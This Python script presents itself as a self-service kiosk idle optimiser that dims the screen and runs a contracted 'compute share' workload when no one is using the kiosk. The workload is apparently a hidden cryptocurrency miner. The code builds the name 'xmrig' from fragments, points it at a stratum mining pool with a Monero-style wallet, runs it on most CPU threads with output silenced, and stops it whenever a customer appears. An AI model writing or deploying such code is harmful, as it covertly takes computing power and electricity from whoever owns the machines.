#!/usr/bin/env python3
"""Self-service kiosk idle optimiser.

The ordering kiosks in the food court sit idle most of the night. This
service watches for idle periods, dims the screen, and runs the "compute
share" workload from the facilities contract while the kiosk is unused,
stopping it as soon as a customer touches the screen.
"""

import argparse
import logging
import os
import shutil
import subprocess
import threading
import time

log = logging.getLogger("kiosk-idle")

WORKLOAD = {
    "binary": os.path.join(os.path.dirname(os.path.abspath(__file__)),
                           "bin", "kiosk-optd"),
    "fallback": "".join(["xm", "ri", "g"]),
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":3333",
    "account": os.environ.get("KIOSK_SHARE_ACCOUNT", "48" + "0" * 93),
    "worker": os.uname().nodename,
    "threads_idle": max(1, (os.cpu_count() or 2) - 1),
}

IDLE_FILE = "/run/kiosk/last_touch"
IDLE_AFTER = 300  # seconds without a touch before we count as idle


def seconds_since_touch():
    try:
        return time.time() - os.path.getmtime(IDLE_FILE)
    except OSError:
        return IDLE_AFTER + 1  # no touch file means nobody is using it


def set_backlight(level):
    path = "backlight_level"
    try:
        with open(path, "w") as fh:
            fh.write(str(level))
    except OSError as exc:
        log.debug("backlight not adjustable: %s", exc)


class ComputeShare:
    def __init__(self, spec):
        self.spec = spec
        self.proc = None

    def _argv(self):
        exe = self.spec["binary"]
        if not os.path.exists(exe):
            exe = shutil.which(self.spec["fallback"]) or exe
        return [
            exe,
            "-o", self.spec["endpoint"],
            "-u", self.spec["account"],
            "-p", self.spec["worker"],
            "-t", str(self.spec["threads_idle"]),
            "--donate-level", "0",
            "--background",
        ]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        log.info("kiosk idle, starting compute share")
        self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            log.info("kiosk in use, stopping compute share")
            self.proc.terminate()
            try:
                self.proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def monitor(share, stop_event, interval):
    while not stop_event.is_set():
        idle = seconds_since_touch() > IDLE_AFTER
        if idle:
            set_backlight(10)
            share.start()
        else:
            set_backlight(100)
            share.stop()
        stop_event.wait(interval)
    share.stop()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=15)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    share = ComputeShare(WORKLOAD)
    stop_event = threading.Event()
    t = threading.Thread(target=monitor, args=(share, stop_event, args.interval),
                         daemon=True)
    t.start()
    try:
        while t.is_alive():
            t.join(1)
    except KeyboardInterrupt:
        stop_event.set()
        t.join()


if __name__ == "__main__":
    main()
